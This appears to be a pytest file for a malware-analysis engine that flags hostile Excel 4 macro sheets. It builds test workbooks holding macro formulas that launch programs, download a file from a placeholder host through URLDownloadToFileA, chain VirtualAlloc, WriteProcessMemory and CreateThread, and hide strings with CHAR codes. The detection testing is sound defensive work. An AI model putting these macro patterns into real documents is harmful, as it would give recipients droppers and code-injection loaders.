"""What macro sheets of Excel 4 do, read from both formats."""

from __future__ import annotations

import struct
from collections.abc import Sequence
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.analysis.cage.host import Cage, sheet
from lazaretto.analysis.documents.excel4.follow import follow
from lazaretto.analysis.documents.excel4.sheets import Book, Sheet, column_name
from lazaretto.analysis.documents.excel4.tokens import Tokens
from lazaretto.analysis.engine import Finding
from lazaretto.analysis.engines import excel4 as engine
from lazaretto.analysis.findings import load_meanings
from lazaretto.analysis.identify import identify
from lazaretto.analysis.rulefiles import default_folder
from lazaretto.analysis.unpackers import office
from lazaretto.domain.scoring import RunFacts, judge
from lazaretto.domain.verdict import Status
from lazaretto.testing.documents import details, ids, indicators, look, members, shortfalls, zipped
from lazaretto.testing.vba import compound

MEANINGS = load_meanings(default_folder())
_SPACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MACRO = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"


def xlsm(formulas: Sequence[str], state: str = "visible", name: str = "_xlnm.Auto_Open", suffix: str = "xml") -> bytes:
    """A workbook with one macro sheet; formulas stand below each other in column A."""
    cells = "".join(
        f'<row r="{n}"><c r="A{n}">'
        f"{f'<f>{escape(text[1:])}</f>' if text[:1] == '=' else f'<v>{escape(text)}</v>'}</c></row>"
        for n, text in enumerate(formulas, 1)
    )
    names = f'<definedNames><definedName name="{name}">M!$A$1</definedName></definedNames>' if name else ""
    return zipped({
        "[Content_Types].xml": "<Types/>",
        "xl/workbook.xml": f'<workbook xmlns:r="{_SPACE}"><sheets>'
        f'<sheet name="M" state="{state}" r:id="r1"/></sheets>{names}'
        "</workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="r1" Type="{_MACRO}" '
        f'Target="macrosheets/sheet1.{suffix}"/></Relationships>',
        f"xl/macrosheets/sheet1.{suffix}": f"<macrosheet><sheetData>{cells}</sheetData></macrosheet>",
    })  # fmt: skip


def found(*formulas: str) -> set[str]:
    return ids(look(engine.examine, xlsm(formulas, name="")))


def test_workbooks_without_macro_sheets_have_nothing() -> None:
    plain = zipped({
        "[Content_Types].xml": "<Types/>",
        "xl/workbook.xml": f'<workbook xmlns:r="{_SPACE}"><sheets>'
        '<sheet name="A" state="veryHidden" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="r1" Type="{_SPACE}/worksheet" '
        'Target="worksheets/a.xml"/>'
        "</Relationships>",
        "xl/worksheets/a.xml": '<worksheet><sheetData>'
        '<row r="1"><c r="A1"><f>SUM(B1:B2)</f></c></row></sheetData></worksheet>',
    })  # fmt: skip
    assert ids(look(engine.examine, plain)) == set()


def test_an_old_tool_is_clean() -> None:
    tool = xlsm(
        ["=ECHO(FALSE)", '=SELECT("R1C1")', '=FORMULA("Total",B1)', '=ALERT("Done"&CHAR(10)&"now",2)', "=RETURN()"]
    )
    outputs = look(engine.examine, tool)
    assert ids(outputs) == {"xlm-sheet", "xlm-auto-start"}
    said = [output for output in outputs if isinstance(output, Finding)]
    assert judge(MEANINGS.evidence(said, "excel4"), RunFacts()).status is Status.CLEAN


def test_how_a_sheet_is_hidden() -> None:
    assert "xlm-hidden-sheet" in ids(look(engine.examine, xlsm(["=RETURN()"], "hidden")))
    assert "xlm-very-hidden-sheet" in ids(look(engine.examine, xlsm(["=RETURN()"], "veryHidden")))
    shown = ids(look(engine.examine, xlsm(["=RETURN()"])))
    assert not shown & {"xlm-hidden-sheet", "xlm-very-hidden-sheet"}


@pytest.mark.parametrize(
    ("formula", "finding"),
    [
        ('=EXEC("calc.exe")', "xlm-starts-program"),
        ('=CALL("kernel32","WinExec","JCJ","calc.exe",0)', "xlm-starts-program"),
        ('=IF(1=1,EXEC("calc.exe"),HALT())', "xlm-starts-program"),
        ('=INITIATE("WINWORD","System")', "xlm-speaks-to-program"),
        ('=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.example/x","C:\\x.dat",0,0)', "xlm-fetches"),
        ('=CALL("mylib.dll","Compute","JJ",5)', "xlm-calls-library"),
        ('=FOPEN("C:\\Users\\Public\\a.vbs",3)', "xlm-writes-program"),
        ('=FORMULA("=BEEP()",B5)', "xlm-writes-formulas"),
    ],
)
def test_what_formulas_do(formula: str, finding: str) -> None:
    assert finding in found(formula)
    assert finding not in found('=FOPEN("C:\\data.txt",3)', '=FORMULA("EXEC is a word",B5)', "=RETURN()")


def test_a_registered_function_is_followed() -> None:
    outputs = look(engine.examine, xlsm([
        '=REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Fetch",,1,9)', '=Fetch(0,"http://a.example/b","C:\\b.exe",0,0)',
    ]))  # fmt: skip
    assert any("http://a.example/b" in detail for detail in details(outputs, "xlm-fetches"))
    assert indicators(outputs, "url") == {"http://a.example/b"}


def test_code_in_memory() -> None:
    calls = [f'=CALL("kernel32","{name}","JJJJJ",0)' for name in ("VirtualAlloc", "WriteProcessMemory", "CreateThread")]
    assert "xlm-memory-code" in found(*calls)
    assert "xlm-memory-code" not in found(*calls[:2])


def test_formulas_that_are_written_by_formulas_are_followed() -> None:
    outputs = look(engine.examine, xlsm([
        '=FORMULA("="&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&"(""cal""&A4)",A3)', "=GOTO(A3)", "", "c.exe",
    ]))  # fmt: skip
    # A cell with a text is not a number and so is not a value of this sheet: the text comes from another formula.
    assert "xlm-writes-formulas" in ids(outputs)
    assert "xlm-starts-program" in ids(outputs)
    assert b'=EXEC("cal"&A4)' in members(outputs)["written formulas.xlm.txt"].data


def test_hidden_texts() -> None:
    codes = "&".join(f"CHAR({ord(c)})" for c in "calc.exe")
    other = "&".join(f"CHAR({ord(c)})" for c in "http://a.example")
    outputs = look(engine.examine, xlsm([f"=EXEC({codes})", f"=ALERT({other})"]))
    assert {"xlm-hidden-texts", "xlm-starts-program"} <= ids(outputs)
    assert [member.data for name, member in members(outputs).items() if name.endswith(".cmd")] == [b"calc.exe"]
    assert "xlm-hidden-texts" not in found('=ALERT("a"&CHAR(13)&CHAR(10)&"b")')


def test_looking_around() -> None:
    assert "xlm-looks-around" in found("=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", '=EXEC("calc.exe")')
    assert "xlm-looks-around" not in found("=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)")


def test_binary_sheets_of_packages_are_said_to_be_unread() -> None:
    outputs = look(engine.examine, xlsm(["=RETURN()"], suffix="bin"))
    assert "xlm-sheet" in ids(outputs)
    assert shortfalls(outputs)


# --- the binary format ----------------------------------------------------------------------------------------------


def record(number: int, body: bytes) -> bytes:
    return struct.pack("<HH", number, len(body)) + body


def text_token(text: str) -> bytes:
    return b"\x17" + struct.pack("<BB", len(text), 0) + text.encode("cp1252")


def function_token(number: int, count: int) -> bytes:
    return b"\x42" + struct.pack("<BH", count, number)


def xls(formula: bytes, hidden: int = 2) -> bytes:
    """A workbook stream with one macro sheet, one formula in A1, and a name that makes Excel begin there."""
    name = b"\x01"
    reference = b"\x3a" + struct.pack("<HHH", 0, 0, 0)
    label = struct.pack("<HBBHHHBBBBB", 0x20, 0, len(name), len(reference), 0, 0, 0, 0, 0, 0, 0) + name + reference
    head = record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))
    rest = record(0x17, struct.pack("<HHhh", 1, 0, 0, 0)) + record(0x18, label) + record(0x0A, b"")
    begin = len(head) + 4 + 8 + 1 + len(rest)
    sheet_entry = record(0x85, struct.pack("<IBBBB", begin, hidden, 1, 1, 0) + b"M")
    cell = struct.pack("<HHHdHI", 0, 0, 0, 0.0, 0, 0) + struct.pack("<H", len(formula)) + formula
    body = record(0x809, struct.pack("<HHHHII", 0x600, 0x40, 0, 0, 0, 0)) + record(0x06, cell) + record(0x0A, b"")
    return compound({"Workbook": head + sheet_entry + rest + body})


EXEC = text_token("calc.exe") + function_token(110, 1)


def test_the_binary_format() -> None:
    outputs = look(engine.examine, xls(EXEC))
    assert ids(outputs) == {"xlm-sheet", "xlm-auto-start", "xlm-very-hidden-sheet", "xlm-starts-program"}
    assert details(outputs, "xlm-auto-start") == ["auto_open: M!A1"]
    assert members(look(office.examine, xls(EXEC)))["M.xlm.txt"].data == b'A1: =EXEC("calc.exe")'
    assert "xlm-very-hidden-sheet" not in ids(look(engine.examine, xls(EXEC, hidden=0)))


@pytest.mark.parametrize(
    ("tokens", "text"),
    [
        (b"\x1e\x05\0\x1e\x03\0\x03", "5+3"),
        (b"\x1f" + struct.pack("<d", 2.5) + b"\x13", "-2.5"),
        (text_token('a"b') + b"\x1d\x01\x08", '"a""b"&TRUE'),
        (b"\x44" + struct.pack("<HH", 4, 0xC01B), "AB5"),
        (b"\x25" + struct.pack("<HHHH", 0, 1, 0, 1), "A1:B2"),
        (b"\x1e\x41\0\x41" + struct.pack("<H", 111), "CHAR(65)"),
        (b"\x42\0" + struct.pack("<H", 0x8076), "ALERT()"),
        (b"\x23" + struct.pack("<I", 1) + b"\x1e\x01\0" + function_token(255, 2), "Foo(1)"),
        (b"\xff", "…"),
        (b"\x03", "…"),
        (b"", ""),
    ],
)  # fmt: skip
def test_tokens(tokens: bytes, text: str) -> None:
    assert Tokens(["Foo"], ["M"]).text(tokens) == text


def test_columns_have_names() -> None:
    assert [column_name(n) for n in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]


# --- hostile input --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formulas",
    [
        {(0, 0): "A1"},
        {(0, 0): "A2", (1, 0): "A1"},
        {(0, 0): 'FORMULA("=FORMULA(A1&A1,A1)",A1)'},
        {(0, 0): "(" * 5_000 + "1" + ")" * 5_000},
        {(0, 0): 'REPT(REPT("a",1000),1000)&' * 50 + '"x"'},
        {(row, 0): f"A{row + 2}&A{row + 2}" for row in range(3_000)},
        {(0, 0): "9^9^9^9^9"},
        {(0, 0): "1" + "+1" * 30_000},
    ],
)
def test_endless_sheets_end(formulas: dict[tuple[int, int], str]) -> None:
    follow(Book(sheets=[Sheet("M", macro=True, formulas=formulas)]))


@pytest.mark.parametrize("data", [xls(EXEC), xlsm(['=EXEC("calc.exe")'])])
def test_changed_bytes_end_in_outputs(data: bytes) -> None:
    @settings(max_examples=100, deadline=None)
    @given(st.integers(0, len(data) - 1), st.binary(min_size=1, max_size=8))
    def changed(where: int, other: bytes) -> None:
        look(engine.examine, data[:where] + other + data[where + len(other) :], "a.xls")
        look(engine.examine, data[:where], "a.xls")

    changed()


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=80))
def test_any_tokens_end(data: bytes) -> None:
    Tokens(["a"], ["b"]).text(data)


def test_in_the_cage_and_all_have_a_meaning() -> None:
    with Cage(at_once=1) as cage:
        for data in (xls(EXEC), xlsm(['=EXEC("calc.exe")'])):
            with sheet(data) as fd:
                outcome = cage.run(engine.ENGINE, fd, name="a", kind=identify(data, "a"))
            assert outcome.failed == "", outcome.detail
            assert outcome.outputs == tuple(look(engine.examine, data, "a"))
            said = {output.id for output in outcome.outputs if isinstance(output, Finding)}
            assert said
            assert said <= set(MEANINGS.by_id)


def test_every_finding_of_the_catalogue_is_tested_here() -> None:
    text = Path(__file__).read_text()
    assert [name for name in MEANINGS.by_id if name.startswith("xlm-") and f'"{name}"' not in text] == []
